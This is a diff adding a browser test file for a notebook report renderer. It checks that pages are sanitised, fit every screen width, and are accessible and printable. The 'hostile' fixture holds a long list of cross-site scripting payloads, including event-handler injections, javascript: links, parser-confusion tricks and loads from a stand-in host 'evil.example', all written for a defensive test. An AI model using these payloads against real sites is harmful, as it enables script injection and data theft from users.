@@ -1,0 +1,289 @@
+"""Pages in a real browser: nothing runs, nothing is asked for, nothing overflows."""
+
+# ruff: noqa: E501 (attacks stand on one line, as they come)
+
+import base64
+import shutil
+from collections.abc import Iterator
+from itertools import pairwise
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from nbformat import v4
+
+from studylib import figures
+from studylib.report.page import render
+from studylib.report.table import table
+
+CHROMIUM = "/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else shutil.which("chromium")
+FLAGS = [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+]  # fmt: skip
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(CHROMIUM is None, reason="skipped: no Chromium found to open pages with"),
+]
+
+RUN = "window.ran=(window.ran||0)+1;alert(1)"
+HOST = "http://evil.example"
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 8).decode()
+HTML = [
+    f"<script>{RUN}</script>",
+    f"<script src={HOST}/a.js></script>",
+    f'<script type=module>import "{HOST}/m.js"</script>',
+    f"<img src=x onerror='{RUN}'>",
+    f"<img src={HOST}/i.png>",
+    f"<img srcset='{HOST}/s.png 1x'>",
+    f"<picture><source srcset={HOST}/p.svg><img alt=x></picture>",
+    f"<svg onload='{RUN}'><script>{RUN}</script><image href={HOST}/v.png /></svg>",
+    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
+    f"<svg><use href='{HOST}/u.svg#a'></use></svg>",
+    f"<math><mtext><mglyph><style><img src=x onerror='{RUN}'>",
+    f"<body onload='{RUN}' background={HOST}/b.png>",
+    f"<iframe src={HOST}/f.html></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    f"<object data={HOST}/o.svg></object><embed src={HOST}/e.svg>",
+    f"<video poster={HOST}/v.png src={HOST}/v.mp4 autoplay onerror='{RUN}'></video>",
+    f"<audio src={HOST}/a.ogg autoplay></audio><track src={HOST}/t.vtt>",
+    f"<link rel=stylesheet href={HOST}/l.css><link rel=prefetch href={HOST}/p>",
+    f"<link rel=preload as=image href={HOST}/x.png><link rel=icon href={HOST}/y.ico>",
+    f"<style>@import '{HOST}/c.css'; body{{background:url({HOST}/d.png)}} .note{{display:none}}</style>",
+    f"<p style='background:url({HOST}/g.png)'>x</p><table background={HOST}/t.png><tr><td></table>",
+    f"<meta http-equiv=refresh content='0;url={HOST}/r'>",
+    f"<base href={HOST}/>",
+    f"<form action={HOST}/f><input autofocus onfocus='{RUN}'><button formaction={HOST}>x</button></form>",
+    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
+    f"<a href='javascript:{RUN}' id=trap autofocus onfocus='{RUN}'>x</a>",
+    f"<a href='jav&#x09;ascript:{RUN}'>x</a><a href='data:text/html,<script>{RUN}</script>'>x</a>",
+    f"<a href='{HOST}/ping' ping='{HOST}/ping'>x</a>",
+    f"<div id=content class=banner onmouseover='{RUN}' style='position:fixed;inset:0'>x</div>",
+    f"<input type=image src={HOST}/in.png><marquee onstart='{RUN}'>x</marquee>",
+    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<!--><img src=x onerror='{RUN}'>-->",
+    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
+    f"<table><caption><script>{RUN}</script></caption><tr><td><a href='javascript:{RUN}'>x</a></table>",
+    f"<h2 id='x\" onclick=\"{RUN}'>Heading <img src=x onerror='{RUN}'></h2>",
+    f"<h1><script>{RUN}</script>x</h1>",
+]
+MARKDOWN = [
+    f"# Title <img src=x onerror='{RUN}'>",
+    f"<script>{RUN}</script> [a](javascript:{RUN}) ![i]({HOST}/md.png)",
+    f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
+    f"```mermaid\ngraph TD; A-->B[<img src=x onerror='{RUN}'>]\n```",
+    f"$\\href{{javascript:{RUN}}}{{x}}$ <{HOST}/auto>",
+    f"[x]: {HOST}/ref.png\n\n![y][x]\n\n<style>@import '{HOST}/m.css'</style>",
+]
+BUNDLES = [
+    *({"text/html": content, "text/plain": "x"} for content in HTML),
+    *({"text/markdown": content} for content in MARKDOWN),
+    {"application/javascript": RUN},
+    {"text/vnd.mermaid": f"graph TD; A[<img src=x onerror='{RUN}'>]"},
+    {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$"},
+    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script>"
+     f"<image href='{HOST}/s.png'/><style>@import '{HOST}/s.css'</style></svg>"},
+    {"image/png": PNG},
+    {"image/jpeg": f"x' onerror='{RUN}"},
+    {"application/pdf": "x", "application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
+    {"text/plain": f"<img src=x onerror='{RUN}'>"},
+]  # fmt: skip
+
+
+def hostile():
+    """A notebook that attacks through every channel an output, a cell or a name offers."""
+    outputs = [v4.new_output("display_data", data=bundle) for bundle in BUNDLES]
+    for output in outputs:
+        output.metadata = {"image/png": {"width": f"1 onerror={RUN}"}, "isolated": True}
+    outputs += [
+        v4.new_output("stream", name="stdout", text=f"<script>{RUN}</script>"),
+        v4.new_output("stream", name="stderr", text=f"<script>{RUN}</script>"),
+        v4.new_output("error", ename="E", evalue="x", traceback=[f"<script>{RUN}</script>"]),
+    ]
+    evil = f"<img src=x onerror='{RUN}'>"
+    frame = pd.DataFrame({evil: [evil, f"javascript:{RUN}"], "n": [1, 2]})
+    shown = [
+        table(frame, title=evil, measure=evil, note=evil, source=evil, sorted_by=[evil]),
+        figures.bars(
+            frame, item=evil, title=evil, alt=f'"{evil}', source=evil, note=evil, name="x"
+        ),
+    ]
+    outputs += [v4.new_output("display_data", data=s._repr_mimebundle_()) for s in shown]
+    cells = [v4.new_markdown_cell(content) for content in MARKDOWN + HTML]
+    cells.append(v4.new_code_cell(f"'</code><script>{RUN}</script>'", outputs=outputs))
+    cells.append(v4.new_code_cell(f"a = {evil!r}", metadata={"tags": ["parameters", evil]}))
+    words = {"banner": evil, "study": evil, "footer": {evil: {evil: evil}, "b": evil}}
+    return render(v4.new_notebook(cells=cells), title=evil, nav=[(evil, "a.html", False)], **words)
+
+
+def friendly():
+    """A page as readers get it: prose, a figure, a wide table."""
+    shares = pd.DataFrame(
+        {
+            "item": ["Innovation", "Identification of good practice in the neighbouring territories"] * 2,
+            "territory": ["Aquitaine"] * 2 + ["Euskadi"] * 2,
+            "share": 0.3, "low": 0.1, "high": 0.6, "n": 5, "n_answered": 12345678, "n_asked": 12345678,
+        }
+    )  # fmt: skip
+    shown = [
+        figures.shares(shares, title="A finding", alt="Two rows", measure="Share", source="Survey"),
+        table(shares, title="A table", most=3, source="Survey"),
+    ]
+    cells = [v4.new_markdown_cell("# A question?\n\nText.\n\n## First\n\n## " + "Verylongword" * 9)]
+    cells += [
+        v4.new_code_cell(
+            "x = " + "y" * 300,
+            outputs=[v4.new_output("display_data", data=each._repr_mimebundle_())],
+        )
+        for each in shown
+    ]
+    return render(
+        v4.new_notebook(cells=cells),
+        title="T",
+        study="Study",
+        banner="Synthetic\nNothing is real",
+        nav=[(f"Page {i}", f"{i}.html", i == 1) for i in range(9)],
+        footer={"Data": {"a.csv": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b" * 2}},
+    )
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator:
+    """One Chromium for all tests of this file."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def open_page(browser, tmp_path):
+    """Opens a page; every request but the page itself is stopped and kept in `asked`."""
+    contexts = []
+
+    def opened(html, *, width=1280, dark=False):
+        path = tmp_path / "page.html"
+        path.write_text(html, encoding="utf-8")
+        context = browser.new_context(
+            viewport={"width": width, "height": 900}, color_scheme="dark" if dark else "light"
+        )
+        contexts.append(context)
+        page = context.new_page()
+        page.asked, page.said = [], []
+
+        def stop(route):
+            if route.request.url == path.as_uri() and not page.asked:
+                route.continue_()
+            else:
+                page.asked.append(route.request.url)
+                route.abort()
+
+        page.route("**/*", stop)
+        page.on("dialog", lambda dialog: (page.said.append(dialog.message), dialog.dismiss()))
+        page.on("console", lambda message: page.said.append(message.text))
+        page.on("pageerror", lambda error: page.said.append(str(error)))
+        page.goto(path.as_uri())
+        page.wait_for_timeout(300)
+        page.address = path.as_uri()
+        return page
+
+    yield opened
+    for context in contexts:
+        context.close()
+
+
+@pytest.mark.parametrize("with_policy", [True, False])
+def test_nothing_hostile_runs_or_calls(open_page, with_policy):
+    """No script, no request, no dialog, no other address: by the cleaning alone, and by both."""
+    html = hostile()
+    if not with_policy:
+        html = html.replace('http-equiv="Content-Security-Policy"', "")
+    page = open_page(html)
+    for link in page.locator("main a[href]").all():
+        link.hover()
+    assert page.evaluate("window.ran") is None
+    assert page.asked == []
+    assert page.said == []
+    assert page.url == page.address
+    harmful = "[onerror],[onload],[onclick],[onfocus],[style],script,iframe,object,form,link,base"
+    assert page.locator(harmful).count() == 0
+    assert page.locator("h1").count() == 1
+    assert page.locator("main table").count() >= 3
+
+
+@pytest.mark.parametrize("dark", [False, True])
+@pytest.mark.parametrize("width", [320, 390, 768, 1280, 1920])
+def test_nothing_overflows(open_page, width, dark):
+    """At every width the page is as wide as the screen; a wide table scrolls in itself."""
+    page = open_page(friendly(), width=width, dark=dark)
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    assert page.asked == []
+    assert page.said == []
+    scrolls = page.evaluate(
+        "(e => e.scrollWidth > e.clientWidth)(document.querySelector('.scroll'))"
+    )
+    assert scrolls is (width < 768)
+
+
+def test_the_drawing_fits_the_screen(open_page):
+    """Light or dark, page or phone: four different drawings, each of them loaded."""
+    html = friendly()
+    sources = set()
+    for width in (390, 1280):
+        for dark in (False, True):
+            image = open_page(html, width=width, dark=dark).locator("figure img")
+            assert image.evaluate("e => e.complete && e.naturalWidth > 0")
+            assert image.get_attribute("alt") == "Two rows"
+            sources.add(image.evaluate("e => e.currentSrc"))
+    assert len(sources) == 4
+
+
+def test_a_keyboard_reaches_everything(open_page):
+    """The first stop skips to the content; each stop is seen; tables and code can be reached."""
+    page = open_page(friendly(), width=390)
+    stops = []
+    for _ in range(60):
+        page.keyboard.press("Tab")
+        stop = page.evaluate(
+            "(e => [e.tagName, e.className, getComputedStyle(e).outlineStyle])(document.activeElement)"
+        )
+        if stop[0] == "BODY":
+            break
+        stops.append(stop)
+    assert stops[0][1] == "skip"
+    assert {"A", "DIV", "SUMMARY"} <= {tag for tag, _, _ in stops}
+    assert all(outline == "solid" for _, _, outline in stops)
+
+
+def test_the_code_opens_without_a_script(open_page):
+    """A click on the words shows how a figure was computed."""
+    page = open_page(friendly())
+    code = page.locator("details pre").first
+    assert not code.is_visible()
+    page.locator("summary").first.click()
+    assert code.is_visible()
+
+
+def test_paper_has_what_paper_needs(open_page):
+    """Printed, a page has its text, figures and banner, and nothing to click."""
+    page = open_page(friendly(), dark=True)
+    page.emulate_media(media="print")
+    for gone in (".pages", ".contents", "details", ".skip"):
+        assert not page.locator(gone).first.is_visible()
+    for kept in (".banner", "h1", "figure img", "table", "footer"):
+        assert page.locator(kept).first.is_visible()
+
+
+def test_the_page_has_an_outline_and_landmarks(open_page):
+    """One main, one h1, no gap in the levels, a name for every navigation and region."""
+    page = open_page(friendly())
+    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map(h => +h.tagName[1])")
+    assert levels[0] == 1
+    assert levels.count(1) == 1
+    assert all(b <= a + 1 for a, b in pairwise(levels))
+    assert page.locator("main").count() == 1
+    nameless = "nav:not([aria-label]):not([aria-labelledby]),[role=region]:not([aria-label])"
+    assert page.locator(nameless).count() == 0
+    assert page.locator("img:not([alt])").count() == 0
+    assert page.locator("th:not([scope])").count() == 0
